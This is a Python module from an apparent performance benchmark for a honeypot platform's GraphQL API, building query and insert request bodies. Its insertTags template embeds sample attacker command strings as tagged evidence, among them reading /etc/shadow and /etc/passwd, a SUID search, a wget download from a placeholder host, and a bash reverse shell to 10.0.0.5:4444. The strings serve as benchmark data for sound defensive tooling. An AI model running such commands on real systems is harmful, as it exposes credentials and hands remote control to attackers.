"""The operations the benchmark drives over HTTP: their GraphQL documents (bench/graphql/),
the request bodies built from the picked ids, and the insertTags template."""

from __future__ import annotations

import functools
import json
import re

from common import BENCH

GRAPHQL = BENCH / "graphql"


@functools.lru_cache(maxsize=None)
def document(name: str) -> str:
    """The operation `name` from bench/graphql/<name>.graphql, on one line: comment lines
    dropped and white space folded, so the bodies sent are byte for byte those of earlier
    runs (the figures stay comparable) and the files can be laid out for reading."""
    lines = (GRAPHQL / f"{name}.graphql").read_text().splitlines()
    kept = [ln for ln in lines if not ln.lstrip().startswith("#")]
    text = " ".join(" ".join(kept).split())
    if not re.match(rf"(?:query|mutation)\s+{name}\b", text):
        raise SystemExit(f"FAILED: {GRAPHQL / name}.graphql does not define the operation {name}")
    return text


def body(name: str, variables: dict | None = None) -> str:
    # operationName labels the server's request metrics, which count the requests served.
    b = {"query": document(name), "operationName": name}
    if variables is not None:
        b["variables"] = variables
    return json.dumps(b, separators=(",", ":"))


def insert_template(batch: int) -> str:
    kinds = [
        ("TA0006", "T1003", "T1003.008", "R0014", 2, 0.95, "sudo cat /etc/shadow"),
        ("TA0007", "T1083", None, "R0013", 1, 0.85, "cat /etc/passwd"),
        ("TA0004", "T1548", "T1548.001", "R0015", 1, 0.95, "find / -perm -u=s -type f"),
        ("TA0011", "T1105", None, "R0012", 1, 0.85, "wget http://x.example/p.sh -O /tmp/p.sh"),
        ("TA0002", "T1059", "T1059.004", "R0010", 1, 0.9, "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"),
    ]
    tags = []
    for i in range(batch):
        tactic, tech, sub, rule, ver, conf, cmd = kinds[i % len(kinds)]
        tags.append({
            "sourceKind": "command",
            "sourceId": f"bench-@@P@@#{i}",
            "attackerUuid": "be0c4000-0000-4000-8000-00000000be0c",
            "deckyId": "omega-decky",
            "tactic": tactic,
            "techniqueId": tech,
            "subTechniqueId": sub,
            "confidence": conf,
            "ruleId": rule,
            "ruleVersion": ver,
            "evidence": {"command_text": cmd, "user": "root", "service": "ssh"},
            "createdAt": "2026-11-01T12:00:00.000000Z",
        })
    return body("InsertTags", {"tags": tags})


def operations(ids: dict, a) -> list[dict]:
    """Every HTTP operation: name, label, bodies, the substring every good body has, the
    one each row of the answer has once (to count the rows answered for the first id, next
    to DECNET's), and the floor operation measured right after it."""
    def per_id(q, key, extra=None):
        return [body(q, {"id": i, **(extra or {})}) for i in ids[key]["ids"]]

    def scope(key):
        t = ids[key]["tags"]
        if t["min"] == t["max"]:
            return f"{t['max']:,} tags"
        return f"{len(ids[key]['ids'])} ids, {t['min']:,}–{t['max']:,} tags"

    insp = ids["inspector"]
    cursors = ids["attackers_page"]["after"]
    ops = [
        dict(name="identity_median", label="identity `techniques`, median identity",
             scope=scope("identity_median") + f" (median {ids['identity_median']['true_median_tags']})",
             bodies=per_id("IdentityTechniques", "identity_median"), expect='"techniques":[{', rows='"techniqueId"',
             floor="identity_median", opname="IdentityTechniques"),
        dict(name="identity_max", label="identity `techniques`, most-tagged identity",
             scope=scope("identity_max"), bodies=per_id("IdentityTechniques", "identity_max"),
             expect='"techniques":[{', rows='"techniqueId"', floor="identity_max", opname="IdentityTechniques"),
        dict(name="attacker", label="attacker `techniques` (busiest attackers)", scope=scope("attacker"),
             bodies=per_id("AttackerTechniques", "attacker"), expect='"techniques":[{', rows='"techniqueId"',
             floor="attacker", opname="AttackerTechniques"),
        dict(name="session", label="session `techniques` (busiest sessions)", scope=scope("session"),
             bodies=per_id("SessionTechniques", "session"), expect='"techniques":[{', rows='"techniqueId"',
             floor="session", opname="SessionTechniques"),
        dict(name="campaign", label="campaign `techniques`, largest campaign",
             scope=scope("campaign") + f", {ids['campaign']['identities']} identities",
             bodies=per_id("CampaignTechniques", "campaign"), expect='"techniques":[{', rows='"techniqueId"',
             floor="campaign", opname="CampaignTechniques"),
        dict(name="fleet", label="`fleetTechniques`", scope=f"{ids['fleet']['tags']:,} tags",
             bodies=[body("FleetTechniques")], expect='"techniqueId"', rows='"techniqueId"', floor="fleet",
             opname="FleetTechniques"),
        dict(name="inspector", label="inspector, identity scope, `limit: 200`",
             scope=f"most-tagged identity, {insp['technique_id']} ({insp['technique_tags']:,} tags)",
             bodies=[body("Inspect", {"id": insp["ids"][0], "technique": insp["technique_id"]})],
             expect='"uuid"', rows='"uuid"', floor="inspector", opname="Inspect"),
        dict(name="attackers_page", label="page of 100 attackers + `techniques` + `identity { techniques }`",
             scope=f"{len(cursors)} pages", bodies=[body("AttackersPage", {"first": 100, "after": c}) for c in cursors],
             expect='"nodes":[{', floor="attackers_page", opname="AttackersPage"),
        dict(name="attackers_page_1", label="the same page with 1 (clustered) attacker, for its statement count",
             scope=f"{len(cursors)} pages", bodies=[body("AttackersPage", {"first": 1, "after": c}) for c in ids["attackers_page"]["after_one"]],
             expect='"nodes":[{', floor=None, opname="AttackersPage"),
        # The same two pages as a browser asks for them (Accept-Encoding: gzip).
        dict(name="attackers_page_gzip", label="page of 100 attackers, gzip (as browsers ask)",
             scope=f"{len(cursors)} pages", bodies=[body("AttackersPage", {"first": 100, "after": c}) for c in cursors],
             expect='"nodes":[{', floor=None, opname="AttackersPage", gzip=True),
        dict(name="attackers_page_1_gzip", label="page of 1 attacker, gzip (as browsers ask)",
             scope=f"{len(cursors)} pages", bodies=[body("AttackersPage", {"first": 1, "after": c}) for c in ids["attackers_page"]["after_one"]],
             expect='"nodes":[{', floor=None, opname="AttackersPage", gzip=True),
        dict(name="typename", label="`{ __typename }` (framework floor)", scope="no SQL",
             bodies=[body("Typename")], expect='"__typename":"Query"', floor=None, opname="Typename"),
    ]
    if a.ops:
        wanted = set(a.ops.split(","))
        ops = [o for o in ops if o["name"] in wanted]
    return ops


def insert_operation(a) -> dict:
    """insertTags with --insert-batch fresh tags per request: a template whose @@P@@
    markers wrk replaces on every request, rather than bodies."""
    return dict(name="insert_tags", label=f"`insertTags`, {a.insert_batch} fresh tags per request",
                scope=f"{a.insert_batch} tags/request", template=insert_template(a.insert_batch),
                expect=f'"inserted":{a.insert_batch}', floor=None, opname="InsertTags")
